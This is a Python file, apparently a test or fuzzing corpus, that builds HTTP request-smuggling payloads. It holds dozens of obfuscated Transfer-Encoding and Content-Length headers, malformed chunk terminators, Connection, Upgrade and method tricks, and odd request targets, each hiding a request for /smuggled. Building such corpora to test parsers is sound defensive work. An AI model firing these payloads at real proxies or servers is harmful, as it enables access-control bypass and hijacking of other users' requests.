# SPDX-License-Identifier: BSD-3-Clause
"""Requests whose end a proxy and a server might see in different places: bytes in front of a marked request that is sent
behind each on the same connection. Every body that is not agreed upon holds a request for /smuggled."""

INNER = b"GET /smuggled HTTP/1.1\r\nHost: test\r\nX-Request-Id: smuggled\r\n\r\n"
HEAD = b"POST /attack HTTP/1.1\r\nHost: test\r\n"


def post(fields, body=INNER, head=HEAD):
    return head + b"".join(field + b"\r\n" for field in fields) + b"\r\n" + body


def length(n):
    return b"Content-Length: %d" % n


N = len(INNER)
CHUNKED = b"Transfer-Encoding: chunked"
END = b"0\r\n\r\n"
AS_CHUNK = b"%x\r\n%s\r\n0\r\n\r\n" % (N, INNER)

# The length ends before the inner request, and the coding behind it, or the other way about.
CODINGS = [b"Transfer-Encoding : chunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, ",
           b"Transfer-Encoding: , chunked", b"Transfer-Encoding: identity", b"Transfer-Encoding: chunked, identity",
           b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: \x0bchunked",
           b"Transfer-Encoding: \x0cchunked", b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: \"chunked\"",
           b"Transfer-Encoding: chunked;x=1", b"Transfer-Encoding:\tchunked\t", b"Transfer-Encoding: CHUNKED", b"Transfer_Encoding: chunked",
           b"Transfer-Encoding:", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
           b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding:\r\n chunked", b"X: y\nTransfer-Encoding: chunked",
           b"X: y\rTransfer-Encoding: chunked", b" Transfer-Encoding: chunked", b"X: y\r\n\tTransfer-Encoding: chunked",
           b"Transfer-Encoding\0: chunked", b"Transfer-Encoding: chunked\0", b"\xffTransfer-Encoding: chunked", CHUNKED]

LENGTHS = [b"Content-Length: 0, %d" % N, b"Content-Length: %d, %d" % (N, N), b"Content-Length: 0\r\nContent-Length: %d" % N,
           b"Content-Length: %d\r\nContent-Length: 0" % N, b"Content-Length: %d\r\nContent-Length: %d" % (N, N), b"Content-Length: +%d" % N,
           b"Content-Length: -1", b"Content-Length: 0x%x" % N, b"Content-Length : %d" % N, b"Content-Length: %d " % N,
           b"Content-Length: 0%d" % N, b"Content-Length: %d\x0b" % N, b"Content-Length:\r\n %d" % N, b"Content_Length: %d" % N,
           b"Content-Length: 18446744073709551616", b"Content-Length: 18446744073709551%03d" % (616 + N), b"Content-Length: ",
           b"Content-Length: %d.0" % N, b"Content-Length: 0\n\r\nContent-Length: %d" % N, b"Content-Length: %d\rX: y" % N]

# The last chunk, and what may pass for it.
CHUNKS = [b"0\r\n\r\n", b"0\n\n", b"0\r\n\n", b"0\n\r\n", b"0;\r\n\r\n", b"0;a=\"\r\n\r\n", b"0;a\n\r\n\r\n", b"00000000000000000\r\n\r\n", b"0x0\r\n\r\n",
          b"+0\r\n\r\n", b"-0\r\n\r\n", b" 0\r\n\r\n", b"0 \r\n\r\n", b"0\t\r\n\r\n", b"\r\n0\r\n\r\n", b"0\r\nContent-Length: %d\r\n\r\n" % N,
          b"0\r\nTransfer-Encoding: chunked\r\n\r\n", b"0\r\nX: y\n\r\n\r\n", b"0\r\n X: y\r\n\r\n", b"1\r\nZZ\r\n0\r\n\r\n", b"1\r\nZ\n0\r\n\r\n",
          b"1\r\nZ0\r\n\r\n", b"10000000000000001\r\nZ\r\n0\r\n\r\n", b"1_0\r\nZ\r\n0\r\n\r\n", b"fffffffffffffffe\r\nZ\r\n0\r\n\r\n", b"g\r\n\r\n", b";a\r\n\r\n"]

# A connection option takes a field away at the proxy; an upgrade, or a method, or an expectation takes a body away.
HOPS = [post([b"Connection: Content-Length", length(N)]), post([b"Connection: Transfer-Encoding", CHUNKED], AS_CHUNK),
        post([b"Connection: keep-alive, Content-Length", length(N)]), post([b"Connection: Host", length(N)]),
        post([b"Connection: X-Request-Id", length(N)]), post([b"Connection: close, X-Forwarded-For", length(N)]),
        post([b"X-Request-Id: smuggled", length(N)]), post([b"Expect: 100-continue", length(N)]), post([b"Expect: 100-continue", CHUNKED], AS_CHUNK),
        post([b"Expect: 200-ok", length(N)]), post([b"Upgrade: websocket", b"Connection: Upgrade", length(N)]),
        post([b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
              length(N)], head=HEAD.replace(b"POST", b"GET")),
        post([b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Version: 8", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="],
             head=HEAD.replace(b"POST", b"GET")),
        post([b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", length(N)]),
        *(post([length(N)], head=HEAD.replace(b"POST", method)) for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"CONNECT", b"get")),
        *(post([CHUNKED], AS_CHUNK, HEAD.replace(b"POST", method)) for method in (b"GET", b"HEAD")),
        *(post([length(N)], head=HEAD.replace(b"1.1", version)) for version in (b"1.0", b"0.9", b"1.2", b"2.0", b"1.1 ")),
        post([CHUNKED], AS_CHUNK, HEAD.replace(b"1.1", b"1.0")), post([CHUNKED, length(N)], AS_CHUNK, HEAD.replace(b"1.1", b"1.0"))]

TARGETS = [b"GET http://other/attack HTTP/1.1\r\nHost: test\r\n\r\n", b"GET http://test/attack HTTP/1.1\r\n\r\n",
           b"GET /attack HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", b"GET /attack HTTP/1.1\r\nHost: a b\r\n\r\n", b"GET /attack HTTP/1.1\r\nHost:\r\n\r\n",
           b"GET /attack HTTP/1.1\r\nHost: test@other\r\n\r\n", b"GET //other/attack HTTP/1.1\r\nHost: test\r\n\r\n",
           b"GET /attack\r\nHost: test\r\n\r\n", b"GET /attack%0d%0aX:%20y HTTP/1.1\r\nHost: test\r\n\r\n",
           b"GET /attack%20HTTP/1.1%0d%0a%0d%0aGET%20/smuggled HTTP/1.1\r\nHost: test\r\n\r\n", b"GET /attack?\xc3\xa9 HTTP/1.1\r\nHost: test\r\n\r\n",
           b"GET /attack HTTP/1.1 GET /smuggled HTTP/1.1\r\nHost: test\r\n\r\n", b"GET /attack\tHTTP/1.1\r\nHost: test\r\n\r\n",
           b"GET  /attack HTTP/1.1\r\nHost: test\r\n\r\n", b"GET /a/../smuggled/../attack HTTP/1.1\r\nHost: test\r\n\r\n",
           b"GET * HTTP/1.1\r\nHost: test\r\n\r\n", b"GET /attack#/smuggled HTTP/1.1\r\nHost: test\r\n\r\n", b"\r\n\r\nGET /attack HTTP/1.1\r\nHost: test\r\n\r\n"]

ATTACKS = [
    *(post([coding, length(n)], body) for coding in CODINGS for n, body in ((N + len(END), END + INNER), (4, AS_CHUNK))),
    *(post([coding], AS_CHUNK) for coding in CODINGS),
    *(post([field]) for field in LENGTHS),
    *(post([CHUNKED], end + INNER) for end in CHUNKS),
    *HOPS, *TARGETS]
